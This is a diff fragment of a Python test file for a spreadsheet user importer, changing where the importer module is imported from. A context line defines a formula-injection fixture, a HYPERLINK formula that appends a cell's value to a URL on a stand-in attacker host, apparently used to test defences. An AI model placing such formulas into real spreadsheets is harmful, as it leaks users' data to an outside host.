@@ -11,8 +11,8 @@ from openpyxl import load_workbook
 from sqlmodel import Session
 
 from app.core.tenancy import TenantScope
-from app.org import importer
 from app.org.models import User
+from app.org.services import importer
 from tests.factories import make_department, make_tenant
 
 LINK = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
